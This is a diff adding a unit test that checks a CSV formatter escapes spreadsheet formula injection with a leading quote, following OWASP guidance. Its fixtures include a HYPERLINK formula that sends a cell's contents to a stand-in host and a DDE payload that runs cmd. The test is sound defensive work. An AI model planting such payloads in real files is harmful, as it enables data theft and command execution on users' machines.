@@ -38,6 +38,44 @@ describe('formatResult', () => {
     expect(formatResult(result, 'csv')).toBe('model,calls,p50_ms,ports\r\na/b,1234567,12.5,"[0,1]"\r\nc|d *e*,3,7,\r\n');
   });
 
+  it('csv: text a spreadsheet would run as a formula gets a leading quote (OWASP); numbers and --csv-raw stay as they are', () => {
+    const hostile: SqlResult = {
+      columns: [
+        { name: 'claim', type: 'VARCHAR', numeric: false },
+        { name: 'delta', type: 'DOUBLE', numeric: true },
+        { name: '=header', type: 'BIGINT', numeric: true },
+      ],
+      rows: [
+        ['=HYPERLINK("http://x.example/?"&A1,"click")', -1.5, -2n],
+        ['+1+cmd|\' /C calc\'!A0', 0, 1n],
+        ['-2+3', null, null],
+        ['@SUM(A1:A2)', null, null],
+        ['\tTAB', null, null],
+        ['\rCR', null, null],
+        ['plain = text, not a formula', null, null],
+        [['=in a list'], null, null],
+      ],
+    };
+    expect(formatResult(hostile, 'csv').split('\r\n')).toEqual([
+      'claim,delta,\'=header',
+      '"\'=HYPERLINK(""http://x.example/?""&A1,""click"")",-1.5,-2',
+      "'+1+cmd|' /C calc'!A0,0,1",
+      "'-2+3,,",
+      "'@SUM(A1:A2),,",
+      "'\tTAB,,",
+      '"\'\rCR",,',
+      '"plain = text, not a formula",,',
+      '"[""=in a list""]",,',
+      '',
+    ]);
+    const raw = formatResult(hostile, 'csv', { csvRaw: true }).split('\r\n');
+    expect(raw[0]).toBe('claim,delta,=header');
+    expect(raw[1]).toBe('"=HYPERLINK(""http://x.example/?""&A1,""click"")",-1.5,-2');
+    expect(raw[3]).toBe('-2+3,,');
+    // The other formats are not for spreadsheets and never change a value.
+    expect(formatResult(hostile, 'json')).toContain('"claim":"=HYPERLINK(');
+  });
+
   it('json: one array of row objects, exact big integers', () => {
     expect(formatResult(result, 'json')).toBe('[\n{"model":"a/b","calls":1234567,"p50_ms":12.5,"ports":[0,1]},\n{"model":"c|d *e*","calls":3,"p50_ms":7,"ports":null}\n]\n');
     expect(jsonText(12345678901234567890n)).toBe('12345678901234567890');
